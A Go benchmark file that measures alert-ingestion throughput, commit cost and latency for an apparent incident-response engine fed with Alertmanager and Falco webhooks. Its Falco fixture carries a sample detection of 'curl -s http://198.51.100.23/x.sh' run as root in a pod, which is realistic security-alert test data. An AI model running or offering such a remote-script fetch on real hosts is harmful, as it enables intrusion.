package web_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/gin-gonic/gin"

	"github.com/firebreak/firebreak/actions"
	"github.com/firebreak/firebreak/actions/webhook"
	"github.com/firebreak/firebreak/engine"
	"github.com/firebreak/firebreak/engine/audit"
	"github.com/firebreak/firebreak/engine/state"
	"github.com/firebreak/firebreak/internal/loadid"
	"github.com/firebreak/firebreak/playbooks"
	"github.com/firebreak/firebreak/store"
	"github.com/firebreak/firebreak/web"
	"github.com/firebreak/firebreak/web/sources"
)

type nopEngine struct{}

func (nopEngine) Notify()                   {}
func (nopEngine) Playbooks() *playbooks.Set { return nil }

// payload returns a one-alert Alertmanager body with a distinct
// fingerprint, so idempotency absorbs nothing; fingerprints and uuids are
// scattered (internal/loadid), as the hashes real senders send are.
func payload(i int64) []byte {
	return []byte(fmt.Sprintf(`{"version":"4","status":"firing","receiver":"fb","groupKey":"g","alerts":[{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}]}`,
		i, time.Now().UTC().Format(time.RFC3339Nano), loadid.Scatter(uint64(i), 64)))
}

// groupPayload returns an Alertmanager body grouping ten alerts, as
// Alertmanager sends a storm (group_by alertname, namespace): ten events per
// request, each with a distinct fingerprint.
func groupPayload(i int64) []byte {
	at := time.Now().UTC().Format(time.RFC3339Nano)
	var alerts []string
	for k := range int64(10) {
		alerts = append(alerts, fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}`, i*10+k, at, loadid.Scatter(uint64(i*10+k), 64)))
	}
	return []byte(`{"version":"4","status":"firing","receiver":"fb","groupKey":"{}:{alertname=\"KubePodCrashLooping\", namespace=\"shop\"}","groupLabels":{"alertname":"KubePodCrashLooping","namespace":"shop"},"alerts":[` + strings.Join(alerts, ",") + `]}`)
}

// falcoPayload returns a falcosidekick body with a distinct uuid.
func falcoPayload(i int64) []byte {
	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-9c1a-%012x","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
		loadid.Scatter(uint64(i), 48), time.Now().UTC().Format(time.RFC3339Nano)))
}

// load posts b.N bodies from the given number of concurrent clients and
// reports events/s and the 99th percentile acknowledgement latency.
func load(b *testing.B, url string, clients, perRequest int, body func(int64) []byte) {
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: clients, MaxConnsPerHost: clients}}
	drive(b, clients, perRequest, func(i int64) error {
		resp, err := client.Post(url, "application/json", bytes.NewReader(body(i)))
		if err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusAccepted {
			return fmt.Errorf("status %d", resp.StatusCode)
		}
		return nil
	})
}

// drive runs op b.N times from the given number of concurrent callers, each
// call carrying perRequest events, and reports events/s, CPU per event and
// the 99th percentile latency of a call.
func drive(b *testing.B, clients, perRequest int, op func(i int64) error) {
	var n atomic.Int64
	b.SetParallelism(max(1, clients/runtime.GOMAXPROCS(0)))
	var mu sync.Mutex
	var lat []time.Duration
	cpu0 := cpuTime()
	b.ResetTimer()
	start := time.Now()
	b.RunParallel(func(pb *testing.PB) {
		var mine []time.Duration
		defer func() {
			mu.Lock()
			lat = append(lat, mine...)
			mu.Unlock()
		}()
		for pb.Next() {
			t0 := time.Now()
			if err := op(n.Add(1)); err != nil {
				b.Error(err)
				return
			}
			mine = append(mine, time.Since(t0))
		}
	})
	events := float64(b.N * perRequest)
	b.ReportMetric(events/time.Since(start).Seconds(), "events/s")
	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/events, "cpu-µs/event")
	if len(lat) > 0 {
		slices.Sort(lat)
		b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds())/1000, "p99-ms")
	}
}

// BenchmarkIngest compares the durable ingest path (decode, fsync'd group
// commit to the bbolt inbox, 202) with a bare gin handler that only decodes
// the same JSON, both over loopback HTTP, for Alertmanager and Falco
// payloads at 16 and 64 concurrent senders.
func BenchmarkIngest(b *testing.B) {
	for _, src := range []struct {
		name, hook string
		perRequest int
		body       func(int64) []byte
		dec        sources.Decoder
	}{
		{"alertmanager", "alertmanager", 1, payload, sources.Alertmanager{}},
		{"alertmanager-group10", "alertmanager", 10, groupPayload, sources.Alertmanager{}},
		{"falco", "falco", 1, falcoPayload, sources.Falco{}},
	} {
		for _, clients := range []int{16, 64} {
			b.Run(fmt.Sprintf("%s/c%d/bare-gin-decode", src.name, clients), func(b *testing.B) {
				benchBare(b, src.hook, clients, src.perRequest, src.body)
			})
			// The bare handler plus the one thing durability cannot skip: an
			// fsync'd bbolt commit (of one 8-byte key) before the 202. No
			// durable receiver can beat this row.
			b.Run(fmt.Sprintf("%s/c%d/bare-plus-commit", src.name, clients), func(b *testing.B) {
				db := openBench(b, false)
				var n atomic.Int64
				benchBareWith(b, src.hook, clients, src.perRequest, src.body, func() error {
					k := strconv.FormatInt(n.Add(1), 10)
					return db.Update(context.Background(), func(tx state.Tx) error { return tx.Put("bench", k, []byte(k)) })
				})
				reportCommits(b, db)
			})
			// The same with the cheapest durable write there is instead of a
			// bbolt commit: a group-committed append to a preallocated plain
			// file and one fdatasync, as a write-ahead log would do. It bounds
			// any design that syncs before answering, not only bbolt.
			b.Run(fmt.Sprintf("%s/c%d/bare-plus-fdatasync", src.name, clients), func(b *testing.B) {
				lg := openSyncLog(b)
				benchBareWith(b, src.hook, clients, src.perRequest, src.body, func() error { return lg.append([]byte("x")) })
				b.ReportMetric(float64(lg.appends.Load())/float64(max(1, lg.syncs.Load())), "requests/commit")
			})
			b.Run(fmt.Sprintf("%s/c%d/durable-inbox", src.name, clients), func(b *testing.B) {
				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, store.Options{})
			})
			// The same with store.write_ahead_log: each request waits for
			// one flush of the log, and the log's records are copied into
			// the file's inbox behind it (store.Options.WAL).
			b.Run(fmt.Sprintf("%s/c%d/durable-inbox-wal", src.name, clients), func(b *testing.B) {
				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, store.Options{WAL: true})
			})
			// The same path with fsync off: not durable, so not a product
			// figure, but it splits the gap to the bare handler into CPU
			// (this row) and waiting for the flush (the row above).
			b.Run(fmt.Sprintf("%s/c%d/inbox-nosync", src.name, clients), func(b *testing.B) {
				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, store.Options{NoSync: true})
			})
			// The durable path with the engine running in the same
			// process, as in service: 100 playbooks loaded, one of which
			// matches every event and runs a webhook.notify to a local
			// receiver. Besides the accepted events/s it reports what the
			// engine did during the load (processed events/s, actions/s)
			// and the inbox backlog when the load ends; the engine keeps
			// up when the backlog stays near zero.
			b.Run(fmt.Sprintf("%s/c%d/durable-inbox+engine", src.name, clients), func(b *testing.B) {
				benchWithEngine(b, src.hook, clients, src.perRequest, src.body, src.dec)
			})
			// The store's share alone: the same events, decoded beforehand,
			// appended by as many concurrent callers, with no HTTP.
			b.Run(fmt.Sprintf("%s/c%d/append-only", src.name, clients), func(b *testing.B) {
				benchAppend(b, clients, src.body(0), src.dec)
			})
		}
	}
	// The ceiling of any ingest that commits to bbolt before answering: one
	// 8-byte put per call, group-committed and fsync'd, nothing else. Its
	// events/s bounds the durable rows above, whatever their decoding and
	// HTTP cost.
	for _, clients := range []int{16, 64} {
		b.Run(fmt.Sprintf("commit-ceiling/c%d/empty-commit", clients), func(b *testing.B) {
			db := openBench(b, false)
			drive(b, clients, 1, func(i int64) error {
				k := strconv.FormatInt(i, 10)
				return db.Update(context.Background(), func(tx state.Tx) error { return tx.Put("bench", k, []byte(k)) })
			})
			reportCommits(b, db)
		})
	}
}

func openBench(b *testing.B, noSync bool) *store.DB {
	return openBenchWith(b, store.Options{NoSync: noSync})
}

func openBenchWith(b *testing.B, opts store.Options) *store.DB {
	db, err := store.Open(filepath.Join(b.TempDir(), "firebreak.db"), opts)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { db.Close() })
	return db
}

func reportCommits(b *testing.B, db *store.DB) {
	if commits, fns := db.CommitStats(); commits > 0 {
		b.ReportMetric(float64(fns)/float64(commits), "requests/commit")
	}
}

// benchAppend appends the events of body, decoded once, under a new id for
// each call, straight to the inbox.
func benchAppend(b *testing.B, clients int, body []byte, dec sources.Decoder) {
	proto, err := dec.Decode(body, time.Now())
	if err != nil {
		b.Fatal(err)
	}
	db := openBench(b, false)
	drive(b, clients, len(proto), func(i int64) error {
		evs := slices.Clone(proto)
		for k := range evs {
			evs[k].ID = proto[k].ID + "-" + strconv.FormatInt(i, 10)
			evs[k].Raw = body
		}
		_, err := db.AppendEvents(context.Background(), evs)
		return err
	})
	reportCommits(b, db)
}

// benchBare serves a gin handler that only decodes the body into a generic
// JSON value, the least any receiver must do.
func benchBare(b *testing.B, name string, clients, perRequest int, body func(int64) []byte) {
	benchBareWith(b, name, clients, perRequest, body, nil)
}

// benchBareWith is benchBare with then, when not nil, run after the decode
// and before the answer.
func benchBareWith(b *testing.B, name string, clients, perRequest int, body func(int64) []byte, then func() error) {
	gin.SetMode(gin.ReleaseMode)
	r := gin.New()
	r.POST("/hooks/"+name, func(c *gin.Context) {
		var m map[string]any
		if err := json.NewDecoder(c.Request.Body).Decode(&m); err != nil {
			c.AbortWithStatus(http.StatusBadRequest)
			return
		}
		if then != nil {
			if err := then(); err != nil {
				c.AbortWithStatus(http.StatusServiceUnavailable)
				return
			}
		}
		c.JSON(http.StatusAccepted, gin.H{"accepted": 1, "duplicates": 0})
	})
	srv := httptest.NewServer(r)
	defer srv.Close()
	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
}

func benchDurable(b *testing.B, name string, clients, perRequest int, body func(int64) []byte, dec sources.Decoder, opts store.Options) {
	db := openBenchWith(b, opts)
	s := web.New(web.Config{Inbox: db, Audit: db, Engine: nopEngine{}, Sources: map[string]web.Source{name: {Decoder: dec}}})
	srv := httptest.NewServer(s)
	defer srv.Close()
	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
	reportCommits(b, db)
}

// benchWithEngine is benchDurable with a running engine and 100
// playbooks (see the durable-inbox+engine row).
func benchWithEngine(b *testing.B, name string, clients, perRequest int, body func(int64) []byte, dec sources.Decoder) {
	var hits atomic.Int64
	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		hits.Add(1)
		w.WriteHeader(http.StatusNoContent)
	}))
	defer recv.Close()
	db := openBench(b, false)
	red, err := audit.NewRedactor(audit.RedactConfig{})
	if err != nil {
		b.Fatal(err)
	}
	db.SetRedactor(red.Record)
	reg := actions.NewRegistry()
	if err := reg.Register(webhook.New(webhook.Config{})); err != nil {
		b.Fatal(err)
	}
	files := fstest.MapFS{}
	for i := range 99 {
		files[fmt.Sprintf("pb/other-%02d.yaml", i)] = &fstest.MapFile{Data: []byte(fmt.Sprintf("name: other-%02d\ndescription: matches nothing in the load\nmatch: event.name == \"Other%02d\" && event.labels.namespace == \"ns-%02d\"\nsteps:\n  - action: webhook.notify\n    with: { url: %q }\n", i, i, i, recv.URL+"/other"))}
	}
	files["pb/notify.yaml"] = &fstest.MapFile{Data: []byte(fmt.Sprintf("name: notify\ndescription: notify for every event\nmatch: \"true\"\nsteps:\n  - action: webhook.notify\n    with:\n      url: %q\n      body: { alert: \"{{ event.name }}\" }\n", recv.URL+"/hook"))}
	set, err := playbooks.LoadFS(reg, files, "pb")
	if err != nil {
		b.Fatal(err)
	}
	if set.Len() != 100 {
		b.Fatalf("%d playbooks loaded, want 100", set.Len())
	}
	log := slog.New(slog.NewJSONHandler(io.Discard, &slog.HandlerOptions{Level: slog.LevelWarn}))
	eng := engine.New(engine.Config{Store: db, Registry: reg, Logger: log})
	eng.SetPlaybooks(set)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- eng.Run(ctx) }()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			b.Error(err)
		}
	}()
	s := web.New(web.Config{Inbox: db, Audit: db, Engine: eng, Sources: map[string]web.Source{name: {Decoder: dec}}})
	srv := httptest.NewServer(s)
	defer srv.Close()
	processed0, hits0 := eng.Processed(), hits.Load()
	start := time.Now()
	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
	elapsed := time.Since(start).Seconds()
	b.ReportMetric(float64(eng.Processed()-processed0)/elapsed, "processed/s")
	b.ReportMetric(float64(hits.Load()-hits0)/elapsed, "actions/s")
	b.ReportMetric(float64(db.PendingCount()), "backlog-events")
	reportCommits(b, db)
}

// syncLog is the least a durable acknowledgement can cost: callers queue
// a record, one goroutine writes every queued record at once to a
// preallocated file and fdatasyncs it, then answers them all.
type syncLog struct {
	f        *os.File
	ops      chan syncOp
	off      int64
	appends  atomic.Int64
	syncs    atomic.Int64
	stopping chan struct{}
	stopped  chan struct{}
}

type syncOp struct {
	rec  []byte
	done chan error
}

func openSyncLog(b *testing.B) *syncLog {
	f, err := os.OpenFile(filepath.Join(b.TempDir(), "sync.log"), os.O_RDWR|os.O_CREATE, 0o600)
	if err != nil {
		b.Fatal(err)
	}
	// Written zeros, then synced: later syncs flush data only, as a reused
	// log segment's would.
	if _, err := f.Write(make([]byte, 64<<20)); err != nil {
		b.Fatal(err)
	}
	if err := f.Sync(); err != nil {
		b.Fatal(err)
	}
	l := &syncLog{f: f, ops: make(chan syncOp, 1024), stopping: make(chan struct{}), stopped: make(chan struct{})}
	go l.loop()
	b.Cleanup(func() { close(l.stopping); <-l.stopped; f.Close() })
	return l
}

func (l *syncLog) append(rec []byte) error {
	op := syncOp{rec: rec, done: make(chan error, 1)}
	l.ops <- op
	return <-op.done
}

func (l *syncLog) loop() {
	defer close(l.stopped)
	var batch []syncOp
	var buf []byte
	for {
		select {
		case op := <-l.ops:
			batch, buf = append(batch[:0], op), append(buf[:0], op.rec...)
		drain:
			for {
				select {
				case op := <-l.ops:
					batch, buf = append(batch, op), append(buf, op.rec...)
				default:
					break drain
				}
			}
			if l.off+int64(len(buf)) > 64<<20 {
				l.off = 0
			}
			_, err := l.f.WriteAt(buf, l.off)
			l.off += int64(len(buf))
			if err == nil {
				err = syscall.Fdatasync(int(l.f.Fd()))
			}
			l.syncs.Add(1)
			l.appends.Add(int64(len(batch)))
			for _, op := range batch {
				op.done <- err
			}
		case <-l.stopping:
			return
		}
	}
}

// cpuTime is the process's user and system CPU time. The load generator and
// the server share it, as they share the machine, so cpu-µs/event compares
// handlers only next to the bare handler's figure from the same run.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
